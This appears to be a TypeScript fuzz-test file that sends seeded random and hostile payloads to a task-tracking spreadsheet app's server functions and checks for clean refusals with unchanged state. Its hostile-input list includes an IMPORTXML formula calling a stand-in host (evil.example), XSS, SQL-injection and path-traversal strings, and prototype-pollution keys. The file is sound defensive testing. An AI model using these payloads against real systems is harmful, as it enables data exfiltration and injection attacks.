// Fuzzing of the SPEC §5.1 server functions: seeded random and hostile payloads, and the checks every answer must pass.
import { describe, expect, it } from 'vitest';
import type { World } from '../../emulator/world';
import { emulatorFor, sampleWorld } from './project';

/** Deterministic random numbers (mulberry32), so a failure can be replayed from its seed. */
function rng(seed: number) {
  let s = seed >>> 0;
  const next = () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = Math.imul(s ^ (s >>> 15), s | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
  return { next, int, pick };
}
type Rng = ReturnType<typeof rng>;

const HOSTILE_STRINGS = [
  '',
  '   ',
  '=IMPORTXML("http://evil.example/","//a")',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "'=quoted",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"; DROP TABLE tasks; --',
  '../../etc/passwd',
  '产品迭代24-001',
  '产品迭代2024-001',
  '产品迭代2024-001-01',
  '产品迭代2024-999',
  '产品迭代2024-001-99',
  '路人甲',
  '*明',
  '*强',
  '2024-02-30',
  '2024-13-01',
  '2024-10-30',
  'yesterday',
  '\u0000\u0001',
  '\u202Eevil',
  '😀'.repeat(10),
  'x'.repeat(201),
  'y'.repeat(2001),
  'z'.repeat(100_000),
  '__proto__',
  'constructor',
];
const HOSTILE_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  50,
  100,
  101,
  1e308,
  -0,
  [],
  {},
  [1, 2],
  { a: 1 },
  ['*明'],
  [null],
];

function hostileValue(r: Rng): unknown {
  return r.next() < 0.6 ? r.pick(HOSTILE_STRINGS) : r.pick(HOSTILE_VALUES);
}

/** Starts from a valid payload and breaks it in random ways (or leaves it valid). */
function mutate(r: Rng, base: Record<string, unknown>): unknown {
  const roll = r.next();
  if (roll < 0.04) return r.pick([null, 'string', 42, [], [base], true]);
  const payload: Record<string, unknown> = JSON.parse(JSON.stringify(base));
  if (roll < 0.12) return payload;
  const keys = Object.keys(payload);
  const edits = 1 + r.int(3);
  for (let i = 0; i < edits; i++) {
    const what = r.next();
    const key = r.pick(keys);
    if (what < 0.2) delete payload[key];
    else if (what < 0.85) payload[key] = hostileValue(r);
    else if (what < 0.93)
      payload[r.pick(['__proto__', 'constructor', 'extra', 'toString'])] = hostileValue(r);
    else if (Array.isArray(payload[key])) (payload[key] as unknown[]).push(hostileValue(r));
    else payload[key] = [hostileValue(r), hostileValue(r)];
  }
  return payload;
}

const VALID: Record<string, (r: Rng) => Record<string, unknown>> = {
  createTask: (r) => ({
    prefix: r.pick(['产品迭代', '日常协作', 'Launch', 'Q4报告']),
    name: r.pick(['客户调研', '=SUM(1)', '<b>粗体</b>', 'Quarterly review']),
    initiator: '*强',
    owner: r.pick(['*明', '*华', '*磊']),
    collaborators: r.pick([[], ['芳'], ['阳', '*峰']]),
    project: '提升客户复购率',
    type: r.pick(['project', 'routine', 'urgent']),
    priority: r.pick(['high', 'medium', 'low']),
    due: r.pick(['2024-10-30', '2024-11-15', '2025-01-01']),
    notes: '验收标准',
    subtasks: r.pick([[], [{ name: '子任务', owner: '*明', collaborators: [] }]]),
  }),
  updateProgress: (r) => ({
    subtaskId: r.pick(['产品迭代2024-001-01', '日常协作2024-015-01', '产品迭代2024-002-01']),
    progress: r.int(101),
    done: '完成了一部分',
    next: '继续',
    blockers: r.pick(['', '需要支持', '=HYPERLINK("x")']),
  }),
  addSyncRecord: (r) => ({
    date: '2024-10-24',
    topic: '同步',
    content: '<i>内容</i>',
    audience: '项目组全体',
    kind: r.pick(['progress', 'problem', 'decision', 'deliverable']),
    taskId: r.pick(['', '产品迭代2024-001', '日常协作2024-015']),
  }),
  submitForAcceptance: (r) => ({
    taskId: r.pick(['产品迭代2024-001', '日常协作2024-015', '产品迭代2024-002']),
  }),
  acceptTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-001']), note: '好' }),
  rejectTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-001']), reason: '缺少材料' }),
  cancelTask: (r) => ({ taskId: r.pick(['日常协作2024-015', '产品迭代2024-002']), reason: '不再需要' }),
  saveSettings: (r) => ({
    digestHour: r.int(24),
    maxSubtasks: 1 + r.int(3),
    calendar: r.pick(['cn', 'weekdays']),
  }),
  getSidebarModel: () => ({}),
  getSettings: () => ({}),
  recordRetrospective: (r) => ({
    taskId: r.pick(['紧急任务2024-003', '产品迭代2024-001', '日常协作2024-015']),
    text: r.pick(['预案需演练', '=IMPORTXML("x")', '<script>alert(1)</script>']),
  }),
  generateReview: (r) => ({
    from: r.pick(['2024-10-01', '2024-10-14', '2024-10-21']),
    to: r.pick(['2024-10-20', '2024-10-31', '2024-10-07']),
    email: r.pick([true, false]),
  }),
};

const USERS = [
  'qiang@example.com',
  'li@example.com',
  'ming@example.com',
  'lei@example.com',
  'stranger@example.org',
  '',
];
const PAYLOADS_PER_FUNCTION = 1000;
/** A thousand executions of the bundle take 10–40 s here; slower machines get room, as times are never asserted. */
const FUZZ_TIMEOUT_MS = 240_000;
/** Functions that take no input: they answer every payload (sent as an argument or not). */
const NO_INPUT = new Set(['getSidebarModel', 'getSettings']);
/** A world is reused while calls fail (they must change nothing) and replaced after a few successes. */
const FRESH_AFTER_SUCCESSES = 25;

/** What a rejected call must leave untouched: the workbook, properties, triggers and mail. */
const state = (w: World) => JSON.stringify([w.spreadsheet, w.properties, w.triggers, w.outbox, w.locks]);

/** A readable error names something in words, not a JavaScript failure. */
function assertReadable(message: string, context: string): void {
  expect(message.length, context).toBeGreaterThan(1);
  expect(message.length, context).toBeLessThan(3000);
  expect(message, context).not.toMatch(
    /TypeError|ReferenceError|RangeError|SyntaxError|Cannot read|is not a function|undefined|\[object|NaN/,
  );
}

/** The sample workbook plus 产品迭代2024-002 (owner *明, initiator *丽) in progress, so every action has a valid target. */
function fuzzWorld(): World {
  const world = sampleWorld();
  const emu = emulatorFor(world);
  emu.callOk(
    'createTask',
    [{ ...VALID.createTask!(rng(1)), prefix: '产品迭代', initiator: '*丽', owner: '*明', subtasks: [] }],
    'qiang@example.com',
  );
  emu.callOk('updateProgress', [{ subtaskId: '产品迭代2024-002-01', progress: 100 }], 'ming@example.com');
  return world;
}

/** Sends the payloads to one function; returns how many calls succeeded and how many were refused. */
function fuzz(fn: string): { successes: number; refusals: number } {
  const r = rng(fn.length * 7919 + fn.charCodeAt(0));
  let world = fuzzWorld();
  let emu = emulatorFor(world);
  let sinceFresh = 0;
  let successes = 0;
  let refusals = 0;
  for (let i = 0; i < PAYLOADS_PER_FUNCTION; i++) {
    if (sinceFresh >= FRESH_AFTER_SUCCESSES) {
      world = fuzzWorld();
      emu = emulatorFor(world);
      sinceFresh = 0;
    }
    const payload = mutate(r, VALID[fn]!(r));
    const user = r.pick(USERS);
    const args = NO_INPUT.has(fn) ? (r.next() < 0.5 ? [] : [payload]) : [payload];
    const before = state(world);
    const res = emu.call(fn, args, user, { rpc: true });
    const context = `${fn} #${i} as "${user}": ${JSON.stringify(payload).slice(0, 300)}`;
    if (res.ok) {
      successes++;
      sinceFresh++;
      expect(JSON.stringify(res.result), context).not.toContain('"__proto__"');
    } else {
      refusals++;
      assertReadable(res.error!.message, context);
      expect(state(world), context).toBe(before);
    }
  }
  return { successes, refusals };
}

/**
 * One test per function: every payload succeeds or is refused readably with nothing changed, and the payloads reach
 * both outcomes (only a function without input may accept them all).
 */
export function describeFuzzing(fns: readonly string[]): void {
  describe.each(fns)('fuzzing %s', (fn) => {
    it(
      `answers ${PAYLOADS_PER_FUNCTION} random and hostile payloads with success or a readable error`,
      () => {
        const { successes, refusals } = fuzz(fn);
        expect(successes + refusals).toBe(PAYLOADS_PER_FUNCTION);
        if (!NO_INPUT.has(fn)) expect(refusals).toBeGreaterThan(0);
        expect(successes).toBeGreaterThan(0);
      },
      FUZZ_TIMEOUT_MS,
    );
  });
}
